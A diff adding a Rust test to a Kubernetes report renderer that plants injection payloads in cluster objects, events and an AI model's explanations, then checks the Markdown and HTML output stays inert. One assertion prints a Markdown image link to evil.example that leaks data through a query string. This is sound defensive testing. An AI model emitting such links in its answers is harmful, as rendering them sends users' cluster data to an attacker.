@@ -155,4 +155,66 @@ mod tests {
             std::fs::write(std::path::Path::new(&dir).join("explained.md"), &r.markdown).unwrap();
         }
     }
+
+    /// Injection payloads in every kind of cluster text (object and owner names, message, container message,
+    /// event, skipped kind) and in the model's answers, structured or not: the Markdown has no live link, image
+    /// or HTML (checked with a real Markdown parser) and the HTML none of the planted elements.
+    #[test]
+    fn planted_links_and_markup_stay_inert_in_every_view() {
+        use mekhanikube_analyzers::{EventSummary, Evidence, ObjectRef};
+
+        use super::markdown::tests::{PAYLOADS, assert_inert};
+
+        let mut findings = Vec::new();
+        for (i, payload) in PAYLOADS.iter().enumerate() {
+            let mut f = finding(&format!("api-{i}{payload}"), &format!("crash {payload}"));
+            f.parent = Some(ObjectRef {
+                api_version: "apps/v1".into(),
+                kind: "Deployment".into(),
+                namespace: Some(format!("shop{payload}")),
+                name: payload.to_string(),
+                uid: None,
+            });
+            f.evidence = vec![
+                Evidence::ContainerState {
+                    container: "app".into(),
+                    init: false,
+                    state: "waiting".into(),
+                    reason: Some(payload.to_string()),
+                    message: Some(payload.to_string()),
+                    exit_code: None,
+                    restart_count: 3,
+                },
+                Evidence::Event(EventSummary {
+                    event_type: "Warning".into(),
+                    reason: "BackOff".into(),
+                    message: payload.to_string(),
+                    count: 2,
+                    last_time: None,
+                }),
+            ];
+            findings.push(f);
+        }
+        let all = PAYLOADS.join("\n");
+        let source = Source { mode: "snapshot".into(), snapshot: Some(PAYLOADS[0].into()), ..Source::default() };
+        let mut analysis = AnalysisDocument::new(source, ScopeInfo::default(), findings.clone(), Vec::new());
+        analysis.skipped = vec![mekhanikube_analyzers::Skipped { kind: PAYLOADS[2].into(), reason: all.clone() }];
+        analysis.explanations = Some(vec![
+            serde_json::json!({"code": "pod-crash-loop", "severity": "high", "pattern": PAYLOADS[0],
+                "objects": [PAYLOADS[1]], "text": format!("Cause: {all}")}),
+            serde_json::json!({"code": "pod-crash-loop", "severity": "high", "pattern": "p", "findings": findings,
+                "explanation": {"cause": all, "impact": PAYLOADS[0], "steps": PAYLOADS, "parsed": true},
+                "error": PAYLOADS[3]}),
+        ]);
+        let key = HistoryKey { id: "0123456789abcdef".into(), label: "test".into() };
+        let diff = super::diff(None, &analysis.findings, analysis.summary.health_score);
+        let doc = ReportDocument::new("report-20261123T140501Z".into(), &key, analysis, diff, Vec::new());
+        let r = render(&doc).unwrap();
+        assert_inert(&r.markdown);
+        assert!(r.markdown.contains("![x](http://evil.example/leak?d=shop-db)"), "the answer is shown verbatim");
+        assert!(r.markdown.contains("crash \\!\\[x\\](http\\://evil.example/leak?d=shop-db)"), "{}", r.markdown);
+        for planted in ["<img", "<script", "<http://"] {
+            assert!(!r.html.contains(planted), "{planted} in the HTML");
+        }
+    }
 }
